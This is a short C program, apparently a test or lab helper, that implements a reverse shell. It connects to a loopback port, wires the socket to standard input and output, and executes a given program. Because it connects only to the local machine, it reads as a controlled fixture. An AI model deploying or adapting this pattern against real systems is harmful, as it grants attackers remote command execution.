// reverse PORT SHELL: connects to loopback and becomes a shell on that connection.
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	struct sockaddr_in to = {
		.sin_family = AF_INET,
		.sin_port = htons(atoi(argv[1])),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	int sock = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(sock, (struct sockaddr *)&to, sizeof to)) {
		perror("connect");
		return 1;
	}
	for (int fd = 0; fd < 3; fd++)
		dup2(sock, fd);
	close(sock);
	char *args[] = { argv[2], NULL };
	execv(argv[2], args);
	return 1;
}
